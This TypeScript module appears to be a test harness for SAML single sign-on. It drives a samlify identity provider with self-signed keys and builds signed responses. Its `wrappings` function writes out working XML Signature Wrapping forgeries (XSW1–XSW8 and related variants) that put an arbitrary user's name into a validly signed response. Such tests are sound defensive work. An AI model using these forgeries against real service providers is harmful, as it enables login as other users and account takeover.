/** A real provider of SAML 2.0 (samlify), and what an attacker makes of what it says. */
import "reflect-metadata";
import { Buffer } from "node:buffer";
import { webcrypto } from "node:crypto";
import { inflateRawSync } from "node:zlib";
import * as x509 from "@peculiar/x509";
// @ts-types="./samlify_types.ts"
import samlify from "samlify";

const { IdentityProvider, SamlLib, ServiceProvider, setSchemaValidator } = samlify;
// What it is sent comes from us.
setSchemaValidator({ validate: () => Promise.resolve("fine") });

export const ENTRY = "https://idp.example/sso";
export const ISSUER = "https://idp.example/metadata";

const RSA = {
  name: "RSASSA-PKCS1-v1_5",
  hash: "SHA-256",
  modulusLength: 2048,
  publicExponent: new Uint8Array([1, 0, 1]),
} as const;

const pem = (label: string, bytes: ArrayBuffer): string => {
  const lines = Buffer.from(bytes).toString("base64").match(/.{1,64}/g)!;
  return `-----BEGIN ${label}-----\n${lines.join("\n")}\n-----END ${label}-----\n`;
};

export interface Signer {
  readonly certificate: string;
  readonly key: string;
}

export const newSigner = async (): Promise<Signer> => {
  const keys = await webcrypto.subtle.generateKey(RSA, true, ["sign", "verify"]);
  const certificate = await x509.X509CertificateGenerator.createSelfSigned({
    name: "CN=idp.example",
    keys: keys as never,
    signingAlgorithm: RSA,
    notBefore: new Date(Date.now() - 60_000),
    notAfter: new Date(Date.now() + 3_600_000),
  });
  return {
    certificate: certificate.toString("pem"),
    key: pem("PRIVATE KEY", await webcrypto.subtle.exportKey("pkcs8", keys.privateKey)),
  };
};

/** What somebody wants who comes from us, read from the address that the browser is sent to. */
export interface Wish {
  readonly id: string;
  readonly back: string;
  readonly audience: string;
  readonly state: string;
}

export const wishIn = (location: string): Wish => {
  const url = new URL(location);
  const xml = inflateRawSync(Buffer.from(url.searchParams.get("SAMLRequest")!, "base64")).toString();
  const found = (pattern: RegExp) => pattern.exec(xml)![1]!;
  return {
    id: found(/ ID="([^"]+)"/),
    back: found(/ AssertionConsumerServiceURL="([^"]+)"/),
    audience: found(/<saml:Issuer[^>]*>([^<]+)</),
    state: url.searchParams.get("RelayState")!,
  };
};

/** What is said of somebody, and what of it is not so. */
export interface Said {
  readonly subject: string;
  readonly groups?: readonly string[];
  readonly username?: string;
  readonly signer: Signer;
  readonly issuer?: string;
  readonly audience?: string;
  readonly recipient?: string;
  readonly destination?: string;
  readonly answers?: string;
  readonly format?: string;
  /** From now, ms. */
  readonly until?: number;
  readonly digest?: "sha1";
}

const attribute = (name: string, values: readonly string[]): string => {
  const all = values.map((value) => `<saml:AttributeValue>${value}</saml:AttributeValue>`).join("");
  return `<saml:Attribute Name="${name}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">${all}</saml:Attribute>`;
};

/** The response as XML, its assertion signed by the provider. */
export const respond = async (wish: Wish, said: Said): Promise<string> => {
  const { signer, issuer = ISSUER, until = 300_000, subject } = said;
  const attributes = [attribute("groups", said.groups ?? []), attribute("username", [said.username ?? subject])].join(
    "",
  );
  const template = SamlLib.defaultLoginResponseTemplate.context
    .replace("{AttributeStatement}", `<saml:AttributeStatement>${attributes}</saml:AttributeStatement>`);
  const idp = IdentityProvider({
    entityID: issuer,
    privateKey: signer.key,
    signingCert: signer.certificate,
    isAssertionEncrypted: false,
    requestSignatureAlgorithm: said.digest === "sha1"
      ? "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
      : "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    loginResponseTemplate: { context: template, attributes: [] },
    singleSignOnService: [{ Binding: "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect", Location: ENTRY }],
  });
  const sp = ServiceProvider({
    entityID: wish.audience,
    wantAssertionsSigned: true,
    assertionConsumerService: [{ Binding: "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST", Location: wish.back }],
  });
  const id = `_${crypto.randomUUID()}`;
  const end = new Date(Date.now() + until).toISOString();
  const start = new Date(Math.min(Date.now(), Date.now() + until) - 60_000).toISOString();
  const answers = said.answers ?? wish.id;
  const filled = {
    ID: id,
    AssertionID: `_${crypto.randomUUID()}`,
    Destination: said.destination ?? wish.back,
    SubjectRecipient: said.recipient ?? wish.back,
    AssertionConsumerServiceURL: wish.back,
    Audience: said.audience ?? wish.audience,
    Issuer: issuer,
    IssueInstant: new Date().toISOString(),
    StatusCode: "urn:oasis:names:tc:SAML:2.0:status:Success",
    ConditionsNotBefore: start,
    ConditionsNotOnOrAfter: end,
    SubjectConfirmationDataNotOnOrAfter: end,
    NameIDFormat: said.format ?? "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
    NameID: subject,
    InResponseTo: answers,
    AuthnStatement: "",
  };
  const fill = (context: string) => ({ id, context: SamlLib.replaceTagsByValue(context, filled) });
  const request = { extract: { request: { id: answers } } };
  const { context } = await idp.createLoginResponse(sp, request, "post", {}, fill);
  return Buffer.from(context, "base64").toString();
};

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const OWN = /<(?:ds:)?Signature .*<\/(?:ds:)?Signature>/s;

/** The assertion without its signature. */
export const unsigned = (response: string): string => response.replace(OWN, "");

/** The ways to wrap a signed assertion that are known (Somorovsky et al., On Breaking SAML, 2012), by their number there, and some more. */
export const wrappings = (response: string, somebody: string): Readonly<Record<string, string>> => {
  const [assertion] = ASSERTION.exec(response)!;
  const [signature] = OWN.exec(assertion)!;
  const bare = assertion.replace(signature, "");
  const forged = bare.replace(/ ID="[^"]+"/, ' ID="_forged"').replace(/(<saml:NameID[^>]*>)[^<]+/, `$1${somebody}`);
  const id = / ID="([^"]+)"/.exec(assertion)![1]!;
  const inside = (what: string) =>
    signature.replace(/<\/((?:ds:)?)Signature>$/, `<$1Object>${what}</$1Object></$1Signature>`);
  const into = (what: string) => response.replace(assertion, what);
  const withOwn = (of: string, own: string) => of.replace("</saml:Issuer>", `</saml:Issuer>${own}`);
  const head = response.slice(0, response.indexOf(assertion));
  const whole = into(bare);
  return {
    XSW1: `${head}${withOwn(forged, inside(whole))}</samlp:Response>`,
    XSW2: `${head}${whole}${withOwn(forged, signature)}</samlp:Response>`,
    XSW3: into(`${forged}${assertion}`),
    XSW4: into(forged.replace(/<\/saml:Assertion>$/, `${assertion}</saml:Assertion>`)),
    XSW5: into(`${withOwn(forged, signature)}${bare}`),
    XSW6: into(withOwn(forged, inside(bare))),
    XSW7: into(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
    XSW8: into(withOwn(forged, inside(assertion))),
    "one id twice": into(`${assertion}${forged.replace("_forged", id)}`),
    "one id twice, elsewhere": response.replace("<saml:Subject>", `<saml:Subject ID="${id}">`),
    "a reference to the document": response.replace(/URI="#[^"]+"/, 'URI=""'),
    "two signatures": into(assertion.replace(signature, `${signature}${signature}`)),
    "the signature elsewhere": into(bare.replace("</saml:Subject>", `${signature}</saml:Subject>`)),
  };
};
